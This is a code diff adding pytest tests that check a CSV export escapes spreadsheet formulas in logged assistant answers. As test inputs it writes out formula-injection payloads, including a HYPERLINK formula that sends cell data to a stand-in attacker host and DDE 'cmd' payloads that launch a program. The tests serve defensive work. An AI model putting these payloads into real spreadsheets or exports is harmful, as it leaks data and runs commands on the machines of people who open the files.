@@ -7,6 +7,9 @@ import json
 
 import pytest
 
+from assistant.answer import Answer
+from assistant.answer_log import AnswerLog, LogFilter
+from ui.csv_export import FORMULA_STARTS, csv_bytes, spreadsheet_safe
 from ui.review_data import (
     Decisions,
     decisions,
@@ -62,6 +65,48 @@ def test_csv_has_one_line_per_answer_and_reads_back():
     assert [r["id"] for r in back] == ["1", "2", "3", "4"]
     assert back[3]["cited_sources"] == "The Night Watch; Mona Lisa"
     assert back[0]["answer"] == "An answer, with a comma. [1]"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        FORMULA,
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
+)
+def test_a_cell_starting_like_a_formula_is_written_as_text(cell):
+    assert spreadsheet_safe(cell) == "'" + cell
+    back = next(csv.DictReader(io.StringIO(csv_bytes([{"q": cell}], ["q"]).decode("utf-8-sig"))))
+    assert back["q"] == "'" + cell
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ["Who painted it?", "SK-C-5", "1650-1699", "'quoted", " =1+1", "", None, 42, -0.5],
+)
+def test_other_cells_are_written_as_they_are(cell):
+    assert spreadsheet_safe(cell) == cell
+
+
+def test_an_export_from_a_real_log_has_the_formula_neutralised(tmp_path):
+    log = AnswerLog(f"sqlite:///{tmp_path / 'log.sqlite3'}")
+    answer_id = log.record(Answer(FORMULA, "refused", "No.", refusal_reason="-1+1"))
+    assert answer_id is not None
+    log.review(answer_id, "incorrect", "@note", "jane")
+    exported = to_csv(log.search(LogFilter())).decode("utf-8-sig")
+    back = next(csv.DictReader(io.StringIO(exported)))
+    assert back["question"] == "'" + FORMULA
+    assert back["refusal_reason"] == "'-1+1" and back["review_note"] == "'@note"
+    assert back["answer"] == "No." and back["id"] == str(answer_id)
+    assert not [v for v in back.values() if v.startswith(FORMULA_STARTS)]
 
 
 def test_jsonl_keeps_every_field():
